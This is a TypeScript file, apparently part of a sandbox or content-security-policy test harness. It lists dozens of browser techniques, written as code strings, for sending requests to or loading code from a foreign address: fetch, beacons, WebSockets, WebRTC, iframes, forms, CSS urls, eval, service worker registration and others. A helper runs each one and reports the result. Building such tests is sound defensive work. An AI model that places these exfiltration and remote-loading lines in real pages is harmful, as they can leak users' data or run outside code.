/**
 * Ways out of a browser, as an attacker would write them who has got code to run: `u` is a foreign
 * address with a slash at its end, `h` its host and port.
 */

/** Those that a worker has too. */
export const I_ARBETARE: Readonly<Record<string, string>> = {
	fetch: `fetch(u + 'fetch')`,
	'fetch without an answer': `fetch(u + 'no-cors', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`,
	XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('POST', u + 'xhr'); x.send('x')`,
	WebSocket: `new WebSocket('ws://' + h + '/ws')`,
	EventSource: `new EventSource(u + 'eventsource')`,
	WebTransport: `new WebTransport('https://' + h + '/wt')`,
	'import()': `return import(u + 'import')`,
	'a foreign worker': `new Worker(u + 'worker')`,
	'a worker of text': `new Worker(URL.createObjectURL(new Blob(['fetch("' + u + 'blob")'])))`,
	'a font': `const f = new FontFace('x', 'url(' + u + 'font)'); return f.load()`,
	eval: `(0, eval)('fetch("' + u + 'eval")')`,
	'new Function': `new Function('fetch("' + u + 'function")')()`,
	'a timer of text': `setTimeout('fetch("' + u + 'timer")')`
};

const link = (rel: string, extra = '') =>
	`const k = document.createElement('link'); k.rel = '${rel}'; ${extra} k.href = u + '${rel}'; document.head.append(k)`;
const element = (tag: string, attribute: string, value = `u + '${tag}'`) =>
	`const e = document.createElement('${tag}'); e.${attribute} = ${value}; document.body.append(e)`;

export const I_SIDA: Readonly<Record<string, string>> = {
	...I_ARBETARE,
	fetchLater: `fetchLater(u + 'later', { activateAfter: 0 })`,
	'a beacon': `navigator.sendBeacon(u + 'beacon', 'x')`,
	'an image': `new Image().src = u + 'image'`,
	'an image of a set': `const i = new Image(); i.srcset = u + 'srcset 1x'; document.body.append(i)`,
	'a video and its poster': `const v = document.createElement('video'); v.poster = u + 'poster'; v.src = u + 'video'; document.body.append(v)`,
	sound: `new Audio(u + 'audio').load()`,
	subtitles: `const v = document.createElement('video'), t = document.createElement('track'); t.default = true; t.src = u + 'track'; v.append(t); document.body.append(v)`,
	'an image in SVG': `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); for (const t of ['image', 'use', 'feImage']) { const e = document.createElementNS(s.namespaceURI, t); e.setAttribute('href', u + t + '#x'); s.append(e); } document.body.append(s)`,
	'a script': element('script', 'src'),
	'a script of text': element('script', 'textContent', `'fetch("' + u + 'inline")'`),
	'HTML of text': `document.body.innerHTML += '<img src=' + u + 'html>'`,
	'HTML beside': `document.body.insertAdjacentHTML('beforeend', '<img src=' + u + 'adjacent>')`,
	'HTML of a fragment': `document.body.append(document.createRange().createContextualFragment('<img src=' + u + 'fragment>'))`,
	'HTML that is parsed': `document.body.append(...new DOMParser().parseFromString('<img src=' + u + 'parsed>', 'text/html').body.children)`,
	'a handler of text': `document.body.setAttribute('onclick', 'fetch("' + u + 'handler")'); document.body.click()`,
	'document.write': `document.write('<img src=' + u + 'write>')`,
	'a policy of one’s own': `document.body.innerHTML = trustedTypes.createPolicy('egen', { createHTML: (x) => x }).createHTML('<img src=' + u + 'policy>')`,
	'a frame': element('iframe', 'src'),
	'a frame of text': element('iframe', 'srcdoc', `'<img src=' + u + 'srcdoc>'`),
	'an empty frame’s fetch': `const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.fetch(u + 'blank')`,
	'an empty frame that goes away': `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = u + 'away'`,
	'an object': element('object', 'data'),
	'an embedded one': element('embed', 'src'),
	prefetch: link('prefetch'),
	preconnect: link('preconnect'),
	prerender: link('prerender'),
	preload: link('preload', `k.as = 'script';`),
	modulepreload: link('modulepreload'),
	'a style sheet': link('stylesheet'),
	'an icon': link('icon'),
	'a manifest': link('manifest'),
	'speculation rules': element(
		'script',
		'type',
		`'speculationrules'; e.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [u + 'spec'] }] })`
	),
	'a style’s image': `document.body.style.backgroundImage = 'url(' + u + 'style)'`,
	'a style element': element(
		'style',
		'textContent',
		`'body { background: url(' + u + 'element) }'`
	),
	'a sheet of rules': `const s = new CSSStyleSheet(); s.replaceSync('html { background: url(' + u + 'sheet) } @font-face { font-family: q; src: url(' + u + 'face) } * { font-family: q }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]`,
	'a form that is sent': `const f = document.createElement('form'); f.method = 'post'; f.action = u + 'form'; document.body.append(f); f.submit()`,
	'a form in a new window': `const f = document.createElement('form'); f.target = '_blank'; f.action = u + 'blankform'; document.body.append(f); f.submit()`,
	'a link that tells': `const a = document.createElement('a'); a.href = '#x'; a.ping = u + 'ping'; document.body.append(a); a.click()`,
	'an address of script': `const a = document.createElement('a'); a.href = 'javascript:fetch("' + u + 'javascript")'; document.body.append(a); a.click()`,
	'a shared worker': `new SharedWorker(u + 'shared')`,
	'a foreign service worker': `return navigator.serviceWorker.register(u + 'service')`,
	'an empty window’s fetch': `const w = window.open(); return w.fetch(u + 'window')`,
	'a new base': `const b = document.createElement('base'); b.href = u; document.head.prepend(b); new Image().src = 'base'; return fetch('base')`
};

/** What no page's own policy can stop: see SECURITY.md. */
export const OPPNA: Readonly<Record<string, string>> = {
	'to leave the page': `location.href = u + 'location'`,
	'to leave it by a meta tag': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=' + u + 'refresh'; document.head.append(m)`,
	'a new window': `window.open(u + 'open')`,
	'a link': `const a = document.createElement('a'); a.target = '_blank'; a.href = u + 'link'; document.body.append(a); a.click()`,
	WebRTC: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + h }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`
};

/** Code that runs one of them, and tells how it went. */
export function forsok(code: string, { url, host }: { url: string; host: string }): string {
	return `(async () => {
		const u = ${JSON.stringify(url)}, h = ${JSON.stringify(host)};
		try { await (async () => { ${code} })(); return 'went on'; } catch (error) { return String(error); }
	})()`;
}
